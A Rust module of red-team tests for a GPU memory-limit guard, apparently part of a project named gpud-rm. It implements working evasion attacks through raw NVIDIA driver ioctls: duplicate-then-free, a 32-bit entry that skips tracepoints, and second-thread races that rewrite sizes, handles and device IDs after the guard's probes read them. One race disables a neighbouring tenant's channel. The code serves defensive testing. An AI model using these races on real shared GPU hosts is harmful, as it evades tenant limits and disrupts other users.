//! A tenant's routes around its memory limit with raw RM calls: the attacks of docs/design.md
//! ("Threat model") that need more than one call or a second thread, for `gpud-rm` (the host's
//! red-team tests) and the VM's kernel matrix.
//!
//! Each keeps what it got (nothing is freed but what the attack frees) and returns an
//! [`Outcome`]. A tenant the kernel kills returns nothing.

use std::{
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    ptr::{addr_of, addr_of_mut},
    sync::atomic::{AtomicBool, Ordering},
    time::Duration,
};

use gpud_common::{
    nv,
    rm::{self, Handle},
};

use super::{Ctl, Form, Reply, bytes_of_mut, class, status};

/// What an attack holds at its end.
#[derive(Clone, Debug, Default)]
pub struct Outcome {
    /// The handles still holding memory.
    pub held: Vec<Handle>,
    /// The first call that did not succeed, if any (the attack stopped there).
    pub failed: Option<Reply>,
}

fn answer(held: &[Handle], failed: Option<Reply>) -> Outcome {
    Outcome {
        held: held.to_vec(),
        failed,
    }
}

/// The attacks by name, each run with `size` bytes per allocation, `n` times. Those of
/// [`RACING_THE_DRIVER`] win only where the driver copies their request well after the call
/// began (the fake's `delay-ioctl-ms`). Each takes its caller's limit on GPU [`LIMITED_GPU`]
/// or on all GPUs alike ([`per_gpu_limit`]).
pub const NAMES: [&str; 10] = [
    "dup-free",
    "race-status",
    "race-size",
    "compat32",
    "unsized",
    "race-xfer",
    "race-dup",
    "race-device",
    "race-free",
    "race-free-client",
];

/// Attacks of [`NAMES`] that race the driver's own copy of the request, `RACE_WAIT` into the
/// call.
pub const RACING_THE_DRIVER: [&str; 5] = [
    "race-xfer",
    "race-dup",
    "race-device",
    "race-free",
    "race-free-client",
];

/// The GPU whose limit an attack of [`per_gpu_limit`] walks around (device 0 of one fake GPU).
pub const LIMITED_GPU: u32 = 0;

/// Whether attack `name` ([`NAMES`]) is one against a limit on one GPU (`race-device`: a
/// device the probes record on GPU 1, where a limit on GPU 0 does not apply); the others are
/// held to an `all` limit.
pub fn per_gpu_limit(name: &str) -> bool {
    name == "race-device"
}

/// When the attacks of [`RACING_THE_DRIVER`] change the request, into the call.
pub const RACE_WAIT: Duration = Duration::from_millis(10);

/// Runs attack `name` ([`NAMES`]) on `client`'s `parent`; `None` for an unknown name.
pub fn run(
    ctl: &Ctl,
    name: &str,
    client: Handle,
    parent: Handle,
    size: u64,
    n: u32,
) -> Option<Outcome> {
    Some(match name {
        "dup-free" => dup_free(ctl, client, parent, size, n),
        "race-status" => race(ctl, client, parent, size, n, Race::Status),
        "race-size" => race(ctl, client, parent, size, n, Race::Size(4096)),
        "compat32" => compat32(ctl, client, parent, size, n),
        "unsized" => unsized_params(ctl, client, parent, size, n),
        "race-xfer" => race_xfer(ctl, client, parent, size, 4096, n, RACE_WAIT),
        "race-dup" => race_dup(ctl, client, parent, size, 4096, n, RACE_WAIT),
        // A device of its own, read as GPU 1 and made on GPU 0: `parent` unused.
        "race-device" => race_device(ctl, client, LIMITED_GPU, 1, size, n, RACE_WAIT),
        "race-free" => race_free(ctl, client, parent, size, 4096, n, RACE_WAIT),
        "race-free-client" => race_free_client(ctl, size, 4096, n, RACE_WAIT),
        _ => return None,
    })
}

/// Plain allocations as a 32-bit process makes them, through the i386 entry (which the
/// `syscalls:*` tracepoints skip), `n` times. Where the kernel has no such entry there is no
/// such caller: nothing is allocated.
pub fn compat32(ctl: &Ctl, client: Handle, parent: Handle, size: u64, n: u32) -> Outcome {
    if super::use_32bit_entry(true).is_err() {
        return answer(&[], None);
    }
    allocations(ctl, client, parent, size, n, Form::Nvos64)
}

/// `n` plain video-memory allocations of `size` bytes in `form`, until one fails.
fn allocations(
    ctl: &Ctl,
    client: Handle,
    parent: Handle,
    size: u64,
    n: u32,
    form: Form,
) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let a = ctl.alloc_vidmem(client, parent, size, form);
        if !a.ok() {
            return answer(&held, Some(a));
        }
        held.push(a.handle);
    }
    answer(&held, None)
}

/// Duplicate, then free the original, `n` times: each round allocates `size` bytes, duplicates
/// the new memory into the same client and frees the original. The driver keeps the memory while
/// the duplicate lives.
pub fn dup_free(ctl: &Ctl, client: Handle, parent: Handle, size: u64, n: u32) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let a = ctl.alloc_vidmem(client, parent, size, Form::Nvos21);
        if !a.ok() {
            return answer(&held, Some(a));
        }
        let d = ctl.dup(client, parent, 0, client, a.handle);
        if !d.ok() {
            return answer(&held, Some(d));
        }
        let f = ctl.free(client, a.handle);
        if !f.ok() {
            return answer(&held, Some(f));
        }
        held.push(d.handle);
    }
    answer(&held, None)
}

/// An NVOS21 allocation of `class` under `parent` with its params at `params`, for a raced
/// call: its status starts as a failure, since the driver's write of `NV_OK` is what a racer
/// waits for.
fn raced_alloc<P>(client: Handle, parent: Handle, class: u32, params: *mut P) -> rm::Nvos21 {
    rm::Nvos21 {
        h_root: client,
        h_object_parent: parent,
        h_class: class,
        p_alloc_parms: params as u64,
        status: status::NV_ERR_NO_MEMORY,
        ..Default::default()
    }
}

/// What the second thread rewrites once the driver has written its answer back.
#[derive(Clone, Copy, Debug)]
pub enum Race {
    /// `NVOS21.status` to a failure: the allocation looks refused.
    Status,
    /// The allocation params' `size` to this: the allocation looks small.
    Size(u64),
}

/// `n` video-memory allocations of `size` bytes (NVOS21), each raced by a second thread that
/// watches the caller's structs and rewrites them the moment the driver's answer lands there,
/// before the system call returns.
pub fn race(ctl: &Ctl, client: Handle, parent: Handle, size: u64, n: u32, r: Race) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let mut params = rm::MemoryAllocationParams {
            size,
            ..Default::default()
        };
        let mut p = raced_alloc(
            client,
            parent,
            class::MEMORY_LOCAL_USER,
            addr_of_mut!(params),
        );
        let (ready, done) = (AtomicBool::new(false), AtomicBool::new(false));
        let (pp, sp) = (addr_of_mut!(p) as usize, addr_of_mut!(params) as usize);
        let (ret, errno) = std::thread::scope(|s| {
            s.spawn(|| rewrite_on_answer(pp, sp, r, &ready, &done));
            // The racer must be spinning before the call: the driver answers in microseconds.
            while !ready.load(Ordering::Acquire) {
                std::hint::spin_loop();
            }
            let cmd = nv::nv_iowr(nv::NV_ESC_RM_ALLOC, nv::NVOS21_SIZE);
            // SAFETY: `p` and `params` live across the call and are of the sizes the driver
            // reads and writes.
            let out = unsafe { ctl.raw(cmd, bytes_of_mut(&mut p).as_mut_ptr()) };
            done.store(true, Ordering::Release);
            out
        });
        if ret != 0 {
            return answer(
                &held,
                Some(Reply {
                    ret,
                    errno,
                    ..Default::default()
                }),
            );
        }
        // The racer wrote over the answer: whether the driver made the memory shows in the
        // handle it wrote back.
        // SAFETY: plain reads of live locals the racer no longer touches.
        let h = unsafe { addr_of!(p.h_object_new).read_volatile() };
        if h == 0 {
            return answer(
                &held,
                Some(Reply {
                    status: p.status,
                    ..Default::default()
                }),
            );
        }
        held.push(h);
    }
    answer(&held, None)
}

/// The second thread: spins until the driver's answer shows (`status` NV_OK in the NVOS21 at
/// `pp`, or `limit` set in the params at `sp`), rewrites it, and keeps rewriting until the call
/// returned.
fn rewrite_on_answer(pp: usize, sp: usize, r: Race, ready: &AtomicBool, done: &AtomicBool) {
    let p = pp as *mut rm::Nvos21;
    let params = sp as *mut rm::MemoryAllocationParams;
    ready.store(true, Ordering::Release);
    while !done.load(Ordering::Acquire) {
        // SAFETY: both structs outlive the scope this thread runs in; racing the driver's and
        // the kernel's writes is the point (volatile, word-sized).
        unsafe {
            match r {
                Race::Status => {
                    let st = addr_of_mut!((*p).status);
                    if st.read_volatile() == status::NV_OK {
                        st.write_volatile(status::NV_ERR_NO_MEMORY);
                    }
                }
                Race::Size(small) => {
                    if addr_of!((*params).limit).read_volatile() != 0 {
                        addr_of_mut!((*params).size).write_volatile(small);
                    }
                }
            }
        }
        std::hint::spin_loop();
    }
}

/// How many of `n` racing controls the driver ran as the racer's `SET_TIMESLICE`, as far as the
/// caller can tell, and the first call that failed outright (an `EPERM` is not a failure here:
/// the guard refusing what it saw is one of the outcomes).
#[derive(Clone, Debug, Default)]
pub struct TimesliceRace {
    /// Calls made.
    pub calls: u32,
    /// Calls refused with `EPERM` (the guard saw the `SET_TIMESLICE`).
    pub refused: u32,
}

/// `n` `GET_TIMESLICE` controls on channel group `tsg`, raced by a second thread that turns the
/// call into `SET_TIMESLICE` of `us` µs and back, over and over, while the calls are made: the
/// guard, reading a call at its entry, may see the harmless `GET` while the driver, copying it a
/// few microseconds later, runs the `SET` (or the other way round).
pub fn race_timeslice(ctl: &Ctl, client: Handle, tsg: Handle, us: u64, n: u32) -> TimesliceRace {
    let mut out = TimesliceRace::default();
    let mut params = rm::tsg::TimesliceParams { timeslice_us: us };
    let mut p = rm::Nvos54 {
        h_client: client,
        h_object: tsg,
        cmd: rm::tsg::GET_TIMESLICE,
        flags: 0,
        params: addr_of_mut!(params) as u64,
        params_size: size_of::<rm::tsg::TimesliceParams>() as u32,
        status: 0,
    };
    let (ready, done) = (AtomicBool::new(false), AtomicBool::new(false));
    let (pp, sp) = (addr_of_mut!(p) as usize, addr_of_mut!(params) as usize);
    std::thread::scope(|s| {
        s.spawn(|| flip_command(pp, sp, us, &ready, &done));
        while !ready.load(Ordering::Acquire) {
            std::hint::spin_loop();
        }
        let cmd = nv::nv_iowr(nv::NV_ESC_RM_CONTROL, nv::NVOS54_SIZE);
        for _ in 0..n {
            // SAFETY: `p` and `params` live across the calls and are of the sizes the driver
            // reads and writes; the racer's writes to them are the point.
            let (ret, errno) = unsafe { ctl.raw(cmd, pp as *mut u8) };
            out.calls += 1;
            if ret != 0 && errno == libc::EPERM {
                out.refused += 1;
            }
        }
        done.store(true, Ordering::Release);
    });
    out
}

/// The second thread of [`race_timeslice`]: the call at `pp` as `SET_TIMESLICE` of `us` (its
/// parameters at `sp`), then as `GET_TIMESLICE`, alternately, until the calls are done.
fn flip_command(pp: usize, sp: usize, us: u64, ready: &AtomicBool, done: &AtomicBool) {
    let p = pp as *mut rm::Nvos54;
    let params = sp as *mut rm::tsg::TimesliceParams;
    ready.store(true, Ordering::Release);
    let mut set = false;
    while !done.load(Ordering::Acquire) {
        set = !set;
        // SAFETY: both structs outlive the scope this thread runs in; racing the kernel's and
        // the driver's reads is the point (volatile, word-sized).
        unsafe {
            addr_of_mut!((*params).timeslice_us).write_volatile(us);
            addr_of_mut!((*p).cmd).write_volatile(if set {
                rm::tsg::SET_TIMESLICE
            } else {
                rm::tsg::GET_TIMESLICE
            });
        }
        // Each state held a little while: long enough for a read to land in it.
        for _ in 0..64 {
            std::hint::spin_loop();
        }
    }
}

/// What became of `n` racing disables ([`race_disable`]), as far as the caller can tell.
#[derive(Clone, Debug, Default)]
pub struct DisableRace {
    /// Calls made.
    pub calls: u32,
    /// Calls refused with `EPERM` (the guard saw the neighbour's client).
    pub refused: u32,
    /// Calls the driver answered with a status other than `NV_OK`.
    pub failed: u32,
}

/// `n` `FIFO_DISABLE_CHANNELS` disables of the caller's own channel `(client, own)`, issued on
/// its `subdevice`, raced by a second thread that points the list's one entry at a neighbour's
/// channel `victim` and back, over and over: the guard, reading the list at the call's entry,
/// may see the caller's own client while the driver, copying it a few microseconds later,
/// disables the neighbour's (the caller's own channel is left with the disables that landed on
/// it). With `wait`, the second thread instead points the list at the neighbour's channel
/// `wait` into each call (the guard has read it by then; a driver answering late has not) and
/// back once the call returned: every call then disables the neighbour's channel unseen.
pub fn race_disable(
    ctl: &Ctl,
    (client, subdevice, own): (Handle, Handle, Handle),
    victim: (Handle, Handle),
    n: u32,
    wait: Option<Duration>,
) -> DisableRace {
    let mut out = DisableRace::default();
    let mut params = rm::sched::DisableChannelsParams {
        disable: 1,
        num_channels: 1,
        ..Default::default()
    };
    params.client_list[0] = client;
    params.channel_list[0] = own;
    let mut p = rm::Nvos54 {
        h_client: client,
        h_object: subdevice,
        cmd: rm::sched::DISABLE_CHANNELS,
        flags: 0,
        params: addr_of_mut!(params) as u64,
        params_size: size_of::<rm::sched::DisableChannelsParams>() as u32,
        status: 0,
    };
    let (pp, sp) = (addr_of_mut!(p) as usize, addr_of_mut!(params) as usize);
    let cmd = nv::nv_iowr(nv::NV_ESC_RM_CONTROL, nv::NVOS54_SIZE);
    let call = |out: &mut DisableRace| {
        // SAFETY: `p` and `params` live across the calls and are of the sizes the driver
        // reads and writes; the racer's writes to them are the point.
        unsafe { addr_of_mut!((*(pp as *mut rm::Nvos54)).status).write_volatile(0) };
        let (ret, errno) = unsafe { ctl.raw(cmd, pp as *mut u8) };
        out.calls += 1;
        // SAFETY: as above.
        let st = unsafe { addr_of!((*(pp as *const rm::Nvos54)).status).read_volatile() };
        if ret != 0 && errno == libc::EPERM {
            out.refused += 1;
        } else if st != status::NV_OK {
            out.failed += 1;
        }
    };
    let (ready, done) = (AtomicBool::new(false), AtomicBool::new(false));
    let Some(wait) = wait else {
        std::thread::scope(|s| {
            s.spawn(|| flip_list(sp, (client, own), victim, &ready, &done));
            while !ready.load(Ordering::Acquire) {
                std::hint::spin_loop();
            }
            for _ in 0..n {
                call(&mut out);
            }
            done.store(true, Ordering::Release);
        });
        return out;
    };
    for _ in 0..n {
        timed_race(
            wait,
            &|| false,
            || set_entry(sp, victim),
            |()| set_entry(sp, (client, own)),
            || call(&mut out),
        );
    }
    out
}

/// Points the disable list's one entry at `(client, channel)`.
fn set_entry(sp: usize, (client, channel): (Handle, Handle)) {
    let params = sp as *mut rm::sched::DisableChannelsParams;
    // SAFETY: the struct outlives every thread that writes it; racing the kernel's and the
    // driver's reads is the point (volatile, word-sized).
    unsafe {
        addr_of_mut!((*params).client_list[0]).write_volatile(client);
        addr_of_mut!((*params).channel_list[0]).write_volatile(channel);
    }
}

/// The second thread of [`race_disable`]: the list's one entry at the caller's own channel,
/// then at the victim's, alternately, until the calls are done.
fn flip_list(
    sp: usize,
    own: (Handle, Handle),
    victim: (Handle, Handle),
    ready: &AtomicBool,
    done: &AtomicBool,
) {
    ready.store(true, Ordering::Release);
    let mut theirs = false;
    while !done.load(Ordering::Acquire) {
        theirs = !theirs;
        set_entry(sp, if theirs { victim } else { own });
        for _ in 0..64 {
            std::hint::spin_loop();
        }
    }
}

/// `n` video-memory allocations of `size` bytes (NVOS21) whose params lie on a page the caller
/// has mapped but never touched: a fresh shared mapping of a memfd that holds them. The
/// driver's `copy_from_user` faults the page in and reads them; a probe's read of user memory
/// may not fault, so the entry side sees no size at all.
pub fn unsized_params(ctl: &Ctl, client: Handle, parent: Handle, size: u64, n: u32) -> Outcome {
    use std::os::unix::fs::FileExt as _;
    let failed = |e: std::io::Error| {
        Some(Reply {
            ret: -1,
            errno: e.raw_os_error().unwrap_or(0),
            ..Default::default()
        })
    };
    // SAFETY: a plain system call on a NUL-terminated name.
    let fd = unsafe { libc::memfd_create(c"gpud-rm-params".as_ptr(), libc::MFD_CLOEXEC) };
    if fd < 0 {
        return answer(&[], failed(std::io::Error::last_os_error()));
    }
    // SAFETY: `fd` was just made and is owned here alone.
    let file = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd) });
    const PAGE: usize = 4096;
    let params = rm::MemoryAllocationParams {
        size,
        ..Default::default()
    };
    // The memfd's page cache holds the params; no mapping of this process has touched them.
    if let Err(e) = file
        .set_len(PAGE as u64)
        .and_then(|()| file.write_all_at(super::bytes_of(&params), 0))
    {
        return answer(&[], failed(e));
    }
    let mut held = Vec::new();
    for _ in 0..n {
        // SAFETY: a new shared mapping of the memfd's first page; nothing else refers to it.
        let map = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                PAGE,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                file.as_raw_fd(),
                0,
            )
        };
        if map == libc::MAP_FAILED {
            return answer(&held, failed(std::io::Error::last_os_error()));
        }
        let alloc = super::Alloc::new(client, parent, class::MEMORY_LOCAL_USER).params(map.cast());
        // SAFETY: the mapping holds the class's params (128 bytes of a page) across the call.
        let a = unsafe { ctl.alloc(&alloc) };
        // The driver wrote the allocated size back: the next call's params start afresh.
        let _ = file.write_all_at(super::bytes_of(&params), 0);
        // SAFETY: the mapping made above, no longer used.
        unsafe { libc::munmap(map, PAGE) };
        if !a.ok() {
            return answer(&held, Some(a));
        }
        held.push(a.handle);
    }
    answer(&held, None)
}

/// The driver's own read of a call raced: a second thread changes one word of the caller's
/// memory `wait` after the call was entered (the probes have read it by then) and puts it back
/// as soon as `answered` sees the driver's answer (before the return side reads it again). Only
/// a window as wide as `wait` makes this repeatable; a real driver's is microseconds, which a
/// racer can still hit by chance (docs/design.md, "Threat model").
struct Timed<'a, T: Copy> {
    at: *mut T,
    driver_sees: T,
    wait: Duration,
    answered: &'a (dyn Fn() -> bool + Sync),
}

impl<T: Copy + Send> Timed<'_, T> {
    /// Runs `call` with the racer beside it; `call`'s result.
    fn run<R>(&self, call: impl FnOnce() -> R) -> R {
        let (at, driver_sees) = (self.at as usize, self.driver_sees);
        timed_race(
            self.wait,
            self.answered,
            move || {
                let at = at as *mut T;
                // SAFETY: the word lives across the call (the caller's frame outlives the
                // race); racing the driver's read of it is the point.
                let was = unsafe { at.read_volatile() };
                // SAFETY: as above.
                unsafe { at.write_volatile(driver_sees) };
                was
            },
            // SAFETY: as above.
            move |was| unsafe { (at as *mut T).write_volatile(was) },
            call,
        )
    }
}

/// Runs `call` with a second thread that, `wait` after the call was entered, does `turn` (what
/// the driver is to see) and, as soon as `answered` holds or the call returned, `back` with
/// what `turn` gave (what the return side is to see); `call`'s result.
fn timed_race<R, B>(
    wait: Duration,
    answered: &(dyn Fn() -> bool + Sync),
    turn: impl FnOnce() -> B + Send,
    back: impl FnOnce(B) + Send,
    call: impl FnOnce() -> R,
) -> R {
    let (entered, done) = (AtomicBool::new(false), AtomicBool::new(false));
    std::thread::scope(|s| {
        s.spawn(|| {
            while !entered.load(Ordering::Acquire) {
                std::hint::spin_loop();
            }
            std::thread::sleep(wait);
            let was = turn();
            while !done.load(Ordering::Acquire) && !answered() {
                std::hint::spin_loop();
            }
            back(was);
        });
        entered.store(true, Ordering::Release);
        let out = call();
        done.store(true, Ordering::Release);
        out
    })
}

// SAFETY: the pointer is only written by the racer thread inside `run`'s scope, which the
// pointee outlives.
unsafe impl<T: Copy> Sync for Timed<'_, T> {}

/// `n` allocations of `size` bytes through `NV_ESC_IOCTL_XFER_CMD` that the probes read as
/// `small` ones: a second thread points the wrapped NVOS21's `pAllocParms` at a second params
/// struct of `size` bytes `wait` into the call, while the driver has yet to copy it, and back
/// at the first once the driver has answered.
pub fn race_xfer(
    ctl: &Ctl,
    client: Handle,
    parent: Handle,
    size: u64,
    small: u64,
    n: u32,
    wait: Duration,
) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let mut seen = rm::MemoryAllocationParams {
            size: small,
            ..Default::default()
        };
        let mut made = rm::MemoryAllocationParams {
            size,
            ..Default::default()
        };
        let mut p = raced_alloc(client, parent, class::MEMORY_LOCAL_USER, addr_of_mut!(seen));
        let made_at = addr_of_mut!(made) as usize;
        // The driver copies the params back with their limit on success.
        let answered = move || {
            let made = made_at as *const rm::MemoryAllocationParams;
            // SAFETY: `made` outlives the call the racer watches; the driver writes it.
            unsafe { addr_of!((*made).limit).read_volatile() != 0 }
        };
        let race = Timed {
            at: addr_of_mut!(p.p_alloc_parms),
            driver_sees: made_at as u64,
            wait,
            answered: &answered,
        };
        let (ret, errno) = race.run(|| ctl.escape(nv::NV_ESC_RM_ALLOC, &mut p, true));
        // SAFETY: a plain read of a live local the racer no longer touches.
        let st = unsafe { addr_of!(p.status).read_volatile() };
        if ret != 0 || st != status::NV_OK {
            return answer(
                &held,
                Some(Reply {
                    ret,
                    errno,
                    status: st,
                    ..Default::default()
                }),
            );
        }
        held.push(p.h_object_new);
    }
    answer(&held, None)
}

/// Duplicate-then-free with the duplicate's source raced, `n` times: each round allocates
/// `small` bytes (the source the probes read, kept) and `size` bytes, duplicates through
/// `NV_ESC_IOCTL_XFER_CMD` an NVOS55 naming the small one, whose `hObjectSrc` a second thread
/// points at the large one `wait` into the call (while the driver has yet to copy the wrapped
/// struct) and back once the driver answered, then frees the large original. The driver keeps
/// the large memory for the duplicate; the probes see a duplicate of the small allocation.
pub fn race_dup(
    ctl: &Ctl,
    client: Handle,
    parent: Handle,
    size: u64,
    small: u64,
    n: u32,
    wait: Duration,
) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let seen = ctl.alloc_vidmem(client, parent, small, Form::Nvos21);
        if !seen.ok() {
            return answer(&held, Some(seen));
        }
        let made = ctl.alloc_vidmem(client, parent, size, Form::Nvos21);
        if !made.ok() {
            return answer(&held, Some(made));
        }
        let mut p = rm::Nvos55 {
            h_client: client,
            h_parent: parent,
            h_object: 0,
            h_client_src: client,
            h_object_src: seen.handle,
            status: u32::MAX,
            ..Default::default()
        };
        let status_at = addr_of!(p.status) as usize;
        // SAFETY: `p` outlives the call the racer watches; the driver writes its status.
        let answered =
            move || unsafe { (status_at as *const u32).read_volatile() } == status::NV_OK;
        let race = Timed {
            at: addr_of_mut!(p.h_object_src),
            driver_sees: made.handle,
            wait,
            answered: &answered,
        };
        let call = race.run(|| ctl.escape(nv::NV_ESC_RM_DUP_OBJECT, &mut p, true));
        // SAFETY: plain reads of a live local the racer no longer touches.
        let dup = unsafe {
            Reply::of(
                call,
                addr_of!(p.status).read_volatile(),
                addr_of!(p.h_object).read_volatile(),
            )
        };
        if !dup.ok() {
            return answer(&held, Some(dup));
        }
        let f = ctl.free(client, made.handle);
        if !f.ok() {
            return answer(&held, Some(f));
        }
        held.push(dup.handle);
    }
    answer(&held, None)
}

/// Racing the driver's copy of a free's handle, `n` rounds: `size` and `small` bytes are
/// allocated, and a wrapped free the probes read as one of the `size` allocation reaches the
/// driver as one of the `small` one (a second thread changes `hObjectOld` `wait` into the call
/// and back once the driver answered). The probes release the large allocation, which the driver keeps.
pub fn race_free(
    ctl: &Ctl,
    client: Handle,
    parent: Handle,
    size: u64,
    small: u64,
    n: u32,
    wait: Duration,
) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let big = ctl.alloc_vidmem(client, parent, size, Form::Nvos21);
        if !big.ok() {
            return answer(&held, Some(big));
        }
        let little = ctl.alloc_vidmem(client, parent, small, Form::Nvos21);
        if !little.ok() {
            return answer(&held, Some(little));
        }
        let freed = raced_free(ctl, client, big.handle, little.handle, wait);
        if !freed.ok() {
            return answer(&held, Some(freed));
        }
        held.push(big.handle);
    }
    answer(&held, None)
}

/// [`race_free`] of a whole client, `n` rounds: a new client with a device, `size` and `small`
/// bytes under it, and a wrapped free the probes read as one of the client (everything in it
/// released) that reaches the driver as one of the `small` allocation. The client and its
/// `size` bytes stay; `client` and `parent` are not used.
pub fn race_free_client(ctl: &Ctl, size: u64, small: u64, n: u32, wait: Duration) -> Outcome {
    let mut held = Vec::new();
    for _ in 0..n {
        let c = ctl.alloc_client();
        if !c.ok() {
            return answer(&held, Some(c));
        }
        let d = ctl.alloc_device(c.handle, 0);
        if !d.ok() {
            return answer(&held, Some(d));
        }
        let big = ctl.alloc_vidmem(c.handle, d.handle, size, Form::Nvos21);
        if !big.ok() {
            return answer(&held, Some(big));
        }
        let little = ctl.alloc_vidmem(c.handle, d.handle, small, Form::Nvos21);
        if !little.ok() {
            return answer(&held, Some(little));
        }
        let freed = raced_free(ctl, c.handle, c.handle, little.handle, wait);
        if !freed.ok() {
            return answer(&held, Some(freed));
        }
        held.push(big.handle);
    }
    answer(&held, None)
}

/// A wrapped (XFER) free of `object` in `client` whose `hObjectOld` a second thread changes to
/// `driver_sees` `wait` into the call, and back once the driver answered. The driver copies the
/// inner struct from its pointer, well after the entry (the fake's delay); a bare call's struct
/// is copied with the ioctl itself.
fn raced_free(
    ctl: &Ctl,
    client: Handle,
    object: Handle,
    driver_sees: Handle,
    wait: Duration,
) -> Reply {
    let mut p = rm::Nvos00 {
        h_root: client,
        h_object_parent: 0,
        h_object_old: object,
        status: u32::MAX,
    };
    let status_at = addr_of!(p.status) as usize;
    // SAFETY: `p` outlives the call the racer watches; the kernel writes its status.
    let answered = move || unsafe { (status_at as *const u32).read_volatile() } != u32::MAX;
    let race = Timed {
        at: addr_of_mut!(p.h_object_old),
        driver_sees,
        wait,
        answered: &answered,
    };
    let call = race.run(|| ctl.escape(nv::NV_ESC_RM_FREE, &mut p, true));
    // SAFETY: a plain read of a live local the racer no longer touches.
    Reply::of(call, unsafe { addr_of!(p.status).read_volatile() }, object)
}

/// A device of GPU `seen` as the probes read it, made by the driver for GPU `gpu`: a second
/// thread changes the `NV01_DEVICE_0` params' `deviceId` `wait` into the call and back once the
/// driver answered. Then `n` allocations of `size` bytes under it.
pub fn race_device(
    ctl: &Ctl,
    client: Handle,
    gpu: u32,
    seen: u32,
    size: u64,
    n: u32,
    wait: Duration,
) -> Outcome {
    let mut params = rm::Nv0080AllocParams {
        device_id: seen,
        ..Default::default()
    };
    let mut p = raced_alloc(client, client, class::DEVICE, addr_of_mut!(params));
    let status_at = addr_of!(p.status) as usize;
    // SAFETY: `p` outlives the call the racer watches; the kernel writes its status.
    let answered = move || unsafe { (status_at as *const u32).read_volatile() } == status::NV_OK;
    let race = Timed {
        at: addr_of_mut!(params.device_id),
        driver_sees: gpu,
        wait,
        answered: &answered,
    };
    let (ret, errno) = race.run(|| ctl.escape(nv::NV_ESC_RM_ALLOC, &mut p, false));
    let st = unsafe { addr_of!(p.status).read_volatile() };
    if ret != 0 || st != status::NV_OK {
        return answer(
            &[],
            Some(Reply {
                ret,
                errno,
                status: st,
                ..Default::default()
            }),
        );
    }
    allocations(ctl, client, p.h_object_new, size, n, Form::Nvos21)
}
